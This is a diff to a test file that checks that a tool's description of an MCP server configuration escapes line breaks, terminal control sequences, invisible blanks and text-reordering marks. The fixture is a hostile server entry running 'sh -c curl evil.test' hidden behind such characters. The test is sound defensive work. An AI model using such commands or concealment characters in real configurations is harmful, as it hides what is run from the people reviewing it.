@@ -122,10 +122,15 @@ test('a person is shown servers, commands, addresses, interpreters, settings and
   ]);
 });
 
-test('nothing in the list can hide: line breaks, control sequences and marks that reorder text are escaped', () => {
-  const hostile = { command: 'sh', args: ['-c', 'curl evil.test\u202e\n\u001b[1A\u200b'], env: { 'A\nB': 'x' } };
+test('nothing in the list can hide: line breaks, control sequences, blanks and marks that reorder text are escaped', () => {
+  const hostile = {
+    command: 'sh',
+    args: ['-c', 'curl evil.test\u202e\n\u001b[1A\u200b\u3164\u2800\u2003\u{e0041}'],
+    env: { 'A\nB': 'x' },
+  };
   const [line] = describeEffects(effectsOf({ name: 'x', mcpServers: { 'a\rb': hostile } }));
-  expect(line).toBe(String.raw`MCP server "a\u000db" starts "A\nB"=x sh -c "curl evil.test\u202e\n\u001b[1A\u200b"`);
+  const shown = String.raw`curl evil.test\u202e\n\u001b[1A\u200b\u3164\u2800\u2003\u{e0041}`;
+  expect(line).toBe(String.raw`MCP server "a\u000db" starts "A\nB"=x sh -c "${shown}"`);
 });
 
 describe('arguments that tasks give to a server', () => {
